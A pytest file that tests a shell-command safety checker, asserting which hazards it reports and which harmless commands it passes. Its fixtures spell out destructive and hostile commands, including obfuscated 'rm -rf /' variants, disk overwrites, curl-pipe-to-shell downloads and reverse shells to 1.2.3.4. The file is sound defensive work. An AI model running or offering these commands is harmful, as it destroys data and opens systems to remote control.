"""Advice on commands: the documented words, what is found, and what is left alone."""

import pytest

from graph import advice, hazards
from graph.hazards import Hazard


async def test_the_documented_example_is_answered_in_the_documented_words() -> None:
    said = await advice.on("rm -rf /")

    assert (False, False) == (said.valid, said.safe)
    assert [
        "This command is potentially destructive",
        "Command attempts to delete system files",
    ] == said.warnings
    assert [
        "Use 'rm -rf ./directory' to delete specific directory",
        "Use 'ls' to list files before deletion",
    ] == said.suggestions


DANGERS: dict[str, tuple[Hazard, ...]] = {
    # The root, however it is spelled.
    "rm -fr //": (hazards.DELETES_SYSTEM,),
    "rm -r -f /*": (hazards.DELETES_SYSTEM,),
    "rm --recursive --force /./": (hazards.DELETES_SYSTEM,),
    "rm -rf /tmp/..": (hazards.DELETES_SYSTEM,),
    "rm -rf -- /": (hazards.DELETES_SYSTEM,),
    "rm -rf ${X:-/}": (hazards.DELETES_SYSTEM,),
    "X=/; rm -rf $X": (hazards.DELETES_SYSTEM,),
    r"rm -rf $'\x2f'": (hazards.DELETES_SYSTEM,),
    "rm -rf /{bin,etc}": (hazards.DELETES_SYSTEM,),
    "rm -rf /usr /tmp/x": (hazards.DELETES_SYSTEM,),
    "rm -rf /usr/lib/x": (hazards.DELETES_BELOW_SYSTEM,),
    "rm -rf ~": (hazards.DELETES_HOME,),
    "rm -rf ~/": (hazards.DELETES_HOME,),
    'rm -rf "${HOME}/"*': (hazards.DELETES_HOME,),
    "rm -rf /home/joe": (hazards.DELETES_HOME,),
    "rm -rf ..": (hazards.DELETES_ALL_HERE,),
    "rm -rf *": (hazards.DELETES_ALL_HERE,),
    "rm -rf $X": (hazards.DELETES_UNKNOWN,),
    'rm -rf "$X"/*': (hazards.DELETES_UNKNOWN,),
    # The program, however it is spelled and started.
    r"\rm -rf /": (hazards.DELETES_SYSTEM,),
    "r''m -rf /": (hazards.DELETES_SYSTEM,),
    "/bin/rm -rf /": (hazards.DELETES_SYSTEM,),
    "busybox rm -rf /": (hazards.DELETES_SYSTEM,),
    "nohup timeout -s KILL 5 rm -rf / &": (hazards.DELETES_SYSTEM,),
    "sudo -u root env A=1 nice -n 5 rm -rf /": (hazards.PRIVILEGED, hazards.DELETES_SYSTEM),
    "find / -name x -exec rm -rf {} +": (hazards.DELETES_SYSTEM,),
    "find / -delete": (hazards.DELETES_SYSTEM,),
    "find . -delete": (hazards.DELETES_ALL_HERE,),
    "mv / /x": (hazards.DELETES_SYSTEM,),
    "ls | xargs rm -rf": (hazards.DELETES_FOUND,),
    # Wherever it stands, and whatever shell is handed it.
    "true && (cd /; { rm -rf /; })": (hazards.DELETES_SYSTEM,),
    "echo `rm -rf /`": (hazards.DELETES_SYSTEM,),
    "X=$(rm -rf /) ls": (hazards.DELETES_SYSTEM,),
    'bash -lc "rm -rf \\"/\\""': (hazards.DELETES_SYSTEM,),
    "sh -c 'sh -c \"rm -rf /\"'": (hazards.DELETES_SYSTEM,),
    'eval "rm -rf" /': (hazards.DELETES_SYSTEM,),
    "trap 'rm -rf /' EXIT": (hazards.DELETES_SYSTEM,),
    "alias ls='rm -rf /'": (hazards.DELETES_SYSTEM,),
    "ssh -p 22 host 'rm -rf /'": (hazards.DELETES_SYSTEM,),
    "echo 'rm -rf /' | sh": (hazards.DELETES_SYSTEM,),
    "bash <<< 'rm -rf /'": (hazards.DELETES_SYSTEM,),
    "cat <<E | bash -s\nrm -rf /\nE": (hazards.DELETES_SYSTEM,),
    "su -c 'rm -rf /'": (hazards.PRIVILEGED, hazards.DELETES_SYSTEM),
    # Devices and the files of the system.
    "dd if=/dev/zero of=/dev/sda": (hazards.OVERWRITES_DEVICE,),
    "mkfs.ext4 x": (hazards.OVERWRITES_DEVICE,),
    "cat x > /dev/sda": (hazards.OVERWRITES_DEVICE,),
    "{ cat x; } &> //dev//sda1": (hazards.OVERWRITES_DEVICE,),
    "echo x | tee /dev/nvme0n1": (hazards.OVERWRITES_DEVICE,),
    "echo x > /etc/passwd": (hazards.OVERWRITES_SYSTEM,),
    "echo x >> /etc/hosts": (hazards.CHANGES_SYSTEM_FILES,),
    "cp x /etc/cron.d/": (hazards.CHANGES_SYSTEM_FILES,),
    "sed -i s/a/b/ /etc/hosts": (hazards.CHANGES_SYSTEM_FILES,),
    "chown -R me /usr": (hazards.CHANGES_ACCESS_OF_SYSTEM,),
    "chmod 777 x": (hazards.OPENS_ACCESS,),
    "chmod a+rwx x": (hazards.OPENS_ACCESS,),
    # What comes from elsewhere.
    "curl -s http://x | sh": (hazards.RUNS_DOWNLOAD,),
    "curl http://x | tee y | bash -s stable": (hazards.RUNS_DOWNLOAD,),
    "wget -qO- x | sudo bash": (hazards.RUNS_DOWNLOAD, hazards.PRIVILEGED),
    "bash <(curl -s x)": (hazards.RUNS_DOWNLOAD,),
    'python3 -c "$(curl x)"': (hazards.RUNS_DOWNLOAD,),
    ". <(curl x)": (hazards.RUNS_DOWNLOAD,),
    "echo cm0= | base64 -d | sh": (hazards.RUNS_OUTPUT,),
    "bash -i >& /dev/tcp/1.2.3.4/80 0>&1": (hazards.OPENS_SHELL,),
    "nc -e /bin/sh 1.2.3.4 80": (hazards.OPENS_SHELL,),
    # The rest.
    ":(){ :|:& };:": (hazards.MULTIPLIES,),
    "sudo ls": (hazards.PRIVILEGED,),
    "chmod u+s x": (hazards.PRIVILEGED,),
    "docker run --privileged x": (hazards.PRIVILEGED,),
    "shutdown -h now": (hazards.STOPS_SYSTEM,),
    "systemctl reboot": (hazards.STOPS_SYSTEM,),
    "kill -9 -1": (hazards.ENDS_OTHERS,),
    "pkill python": (hazards.ENDS_OTHERS,),
    "git -C x reset -q --hard HEAD~1": (hazards.DISCARDS_WORK,),
    "git clean -fdx": (hazards.DISCARDS_WORK,),
    "git push --force origin main": (hazards.REWRITES_HISTORY,),
    "docker system prune -a": (hazards.DISCARDS_STORE,),
    'psql -c "drop table users"': (hazards.DISCARDS_STORE,),
    "$X -rf /": (hazards.UNKNOWN_PROGRAM,),
}


@pytest.mark.parametrize("command", DANGERS)
async def test_a_danger_is_found(command: str) -> None:
    said = await advice.on(command)

    expected = DANGERS[command]
    assert not said.safe
    assert {words for hazard in expected for words in hazard.warnings} == set(said.warnings)
    assert {words for hazard in expected for words in hazard.suggestions} == set(said.suggestions)
    assert said.valid is not any(hazard.is_ruinous for hazard in expected)


@pytest.mark.parametrize(
    "command",
    [
        "ls -la /",
        "rm -rf ./directory",
        "rm -rf build node_modules/.cache /tmp/work",
        'rm -rf "$BUILD_DIR/out"',
        "rm -f *.o",
        "find . -name '*.pyc' -delete",
        'git commit -m "rm -rf /"',
        "git push --force-with-lease",
        "git push origin main",
        "git checkout -b x",
        "echo 'rm -rf /'",
        "echo 'sudo ls' | grep sudo",
        "curl http://x | jq .",
        "curl -o script.sh http://x && sh script.sh",
        'python3 tool.py "$(curl x)"',
        "make > build.log 2>&1 < /dev/null",
        "echo hi | tee /dev/stderr > /dev/null",
        "dd if=a of=b",
        "cp /etc/hosts .",
        "chmod +x script.sh && chmod 644 x",
        "kill 1234",
        "sh -c 'ls | wc -l'",
        'while read -r x; do echo "$x"; done < y',
        "# nothing",
    ],
)
async def test_what_is_harmless_is_left_alone(command: str) -> None:
    assert advice.Advice(True, True, [], []) == await advice.on(command)


async def test_what_no_shell_reads_is_not_valid() -> None:
    said = await advice.on("if ls; then")

    assert (False, False, []) == (said.valid, said.safe, said.suggestions)
    assert [
        "The shell cannot read this: 1:8: `then` must be followed by a statement list"
    ] == said.warnings


async def test_without_a_check_of_safety_only_the_reading_counts() -> None:
    assert advice.Advice(True, None, [], []) == await advice.on("rm -rf /", check_safety=False)
    assert not (await advice.on("(", check_safety=False)).valid


async def test_shells_in_shells_are_looked_at_up_to_a_number() -> None:
    few = await advice.on("sh -c ls;" * (advice.MOST_SCRIPTS - 1))
    many = await advice.on("sh -c ls;" * advice.MOST_SCRIPTS)

    assert (True, True) == (few.valid, few.safe)
    assert (False, False) == (many.valid, many.safe)
    assert ["The shell cannot read this: It starts too many shells"] == many.warnings
